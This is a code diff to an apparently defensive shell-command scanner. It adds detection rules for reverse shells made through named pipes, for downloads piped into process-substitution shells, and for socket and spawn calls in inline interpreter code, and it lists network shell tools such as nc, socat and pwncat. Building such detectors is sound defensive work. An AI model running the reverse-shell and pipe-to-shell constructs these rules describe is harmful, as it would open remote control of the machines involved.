@@ -12,8 +12,7 @@ from ...shell import SUBST, Word
 from ..interpreters import library_calls
 from ..invocation import Invocation
 from ..model import Finding
-from ..operands import AWK
-from ..options import derived, parse_opts
+from ..options import derived
 from ..paths import show, words_snippet
 from ..programs import (
     DOWNLOADERS,
@@ -29,6 +28,7 @@ from ..reach import judge_read
 from ..run import Run, allowed
 from ..text import Stream, pipe_stream, setup_code
 from ..wrappers import unwrap
+from .languages import OWN_SYNTAX
 
 _NETWORK_TOOLS = frozenset({"nc", "socat", "telnet", "cryptcat", "pwncat", "openssl"})
 
@@ -63,10 +63,19 @@ def _program(
     return None
 
 
+_OWN_DOLLAR = re.compile(r"\s*\$(?:[0-9]+|NF|NR|[A-Za-z!=])\s*")
+"""A program of awk (``$1``, ``$NF``) or sed (``$p``, ``$d``, ``$!N``) that looks like a
+shell variable: ``'$p'`` and ``"$p"`` read alike once quotes are removed."""
+
+
 def _judge_program(
     run: Run, inv: Invocation, kind: str, text: str, words: Sequence[Word], origin: str
 ) -> Finding | None:
-    if ("$" in text or SUBST in text) and WHOLE_EXPANSION.fullmatch(text):
+    if (
+        ("$" in text or SUBST in text)
+        and WHOLE_EXPANSION.fullmatch(text)
+        and not (kind in OWN_SYNTAX and _OWN_DOLLAR.fullmatch(text))
+    ):
         token = text.strip()
         subs = [sub for w in words for sub in w.subs]
         if token == SUBST and len(subs) == 1:
@@ -86,6 +95,16 @@ def _judge_program(
         return run.nested(_crontab_commands(text), origin)
     if kind in ("shell", "eval", "source"):
         return run.nested(text, origin)
+    return _own_program(inv, run, kind, text)
+
+
+def _own_program(inv: Invocation, run: Run, kind: str, text: str) -> Finding | None:
+    """An interpreter's program, or one in its own syntax (awk, sed, make)."""
+    judge = OWN_SYNTAX.get(kind)
+    if judge is not None:
+        found = judge(inv, run, text)
+        if found is not None or kind != "awk":
+            return found
     return _inline_program(inv, run, text)
 
 
@@ -111,7 +130,7 @@ def _stream_program(
         elif info.kind in ("shell", "eval", "source"):
             found = run.nested(text, origin)
         else:
-            found = _inline_program(inv, run, text)
+            found = _own_program(inv, run, info.kind, text)
         if found is not None:
             return found
     return None
@@ -175,13 +194,15 @@ def rule_code(inv: Invocation, run: Run) -> Finding | None:
 
 _NET_CODE = re.compile(
     r"\bsocket\b|fsockopen|TCPSocket|IO::Socket|\bnet\.(?:connect|Socket|createConnection)"
-    r"|/inet/(?:tcp|udp)/",
+    r"|/inet/(?:tcp|udp)/|require\s*\(\s*['\"](?:node:)?(?:net|tls)['\"]\s*\)"
+    r"|from\s+['\"](?:node:)?(?:net|tls)['\"]",
     re.IGNORECASE,
 )
 _SPAWN_CODE = re.compile(
     r"dup2|pty\.spawn|subprocess|os\.system|\bexec(?:[lv]p?e?)?\s*\(|\bsystem\s*\(|popen"
     r"|proc_open|passthru|shell_exec|child_process|\bspawn\s*\(|/bin/(?:ba|z|da|k)?sh\b"
-    r"|cmd\.exe",
+    r"|cmd\.exe|\b(?:system|exec)\s*[$\"']|fdopen|open\s*\(\s*STD(?:IN|OUT)\b"
+    r"|os\.execute|io\.popen",
     re.IGNORECASE,
 )
 _FORK_CODE = re.compile(
@@ -199,7 +220,7 @@ _QX_CODE = re.compile(
     r"(?:\bqx|%x)\s*(?:\{(.*?)\}|\((.*?)\)|\[(.*?)\]|<(.*?)>|([|!/])(.*?)\5)", re.DOTALL
 )
 _SQLITE_SHELL = re.compile(r"^\s*\.(?:shell|system)\s+(.*)$", re.MULTILINE)
-_STRING_LITERAL = re.compile(r"(['\"])((?:(?!\1)[^\\\n]|\\.){1,4096}?)\1")
+_STRING_LITERAL = re.compile(r"(['\"`])((?:(?!\1)[^\\\n]|\\.){1,4096}?)\1")
 
 
 def _inline_program(inv: Invocation, run: Run, code: str) -> Finding | None:
@@ -244,13 +265,6 @@ def _inline_program(inv: Invocation, run: Run, code: str) -> Finding | None:
     return None
 
 
-def rule_awk(inv: Invocation, run: Run) -> Finding | None:
-    parsed = parse_opts(inv.args, AWK)
-    if parsed.has("--file") or not parsed.operands:
-        return None
-    return _inline_program(inv, run, parsed.operands[0].text)
-
-
 def _is_network_tool(inv: Invocation) -> bool:
     if inv.name == "openssl":
         return any(w.text == "s_client" for w in inv.args)
@@ -288,11 +302,40 @@ def pipeline_rules(stages: Sequence[Sequence[Invocation | None]], run: Run) -> F
 _SINK_OPS = frozenset({">", ">>", ">|", "&>", "&>>"})
 
 
+def pipeline_fifo(stages: Sequence[Sequence[Invocation | None]], run: Run) -> Finding | None:
+    """``sh -i < F 2>&1 | nc HOST PORT > F``: a shell reads its commands from a file (a
+    named pipe made by ``mkfifo F`` or ``mknod F p``) that the pipeline, joined to a
+    network tool, writes."""
+    invs = [inv for stage in stages for inv in stage if inv is not None]
+    network = next((o for o in invs if _is_network_tool(o)), None)
+    if network is None:
+        return None
+    written = {
+        r.target.text
+        for inv in invs
+        for r in inv.redirects
+        if r.op in _SINK_OPS and r.fd in (None, 1)
+    }
+    for inv in invs:
+        info = exec_info(inv) if inv is not network else None
+        if info is None or not info.stdin:
+            continue
+        feeds = {r.target.text for r in inv.redirects if r.op == "<" and r.fd in (None, 0)}
+        if feeds & written and not allowed(run, inv, network):
+            return Finding(
+                "reverse-shell",
+                network.snippet(),
+                f"{inv.shown} reads commands from a pipe file that {network.snippet()!r} "
+                f"writes (a loop through a named pipe)",
+            )
+    return None
+
+
 def _sink_readers(inv: Invocation) -> list[tuple[Invocation, Exec]]:
     """Shells and interpreters reading a program from ``>(...)`` sinks of ``inv``
     (``CMD > >(sh)``, ``tee >(bash)``)."""
     sinks = [r.target for r in inv.redirects if r.op in _SINK_OPS and r.target.process]
-    if inv.name == "tee":
+    if inv.name == "tee" or inv.name in DOWNLOADERS:  # tee >(sh), curl -o >(sh) URL
         sinks += [w for w in inv.args if w.process]
     readers = []
     for sink in sinks:
@@ -317,7 +360,7 @@ def _without_sinks(inv: Invocation) -> Invocation:
 
 def rule_process_sinks(inv: Invocation, run: Run) -> Finding | None:
     """``CMD > >(sh)``, ``tee >(bash) <<< TEXT``: a shell reads what ``inv`` writes."""
-    if not inv.redirects and inv.name != "tee":
+    if not inv.redirects and inv.name != "tee" and inv.name not in DOWNLOADERS:
         return None
     for reader, info in _sink_readers(inv):
         # a download written into >(sh) is the same as one piped into sh
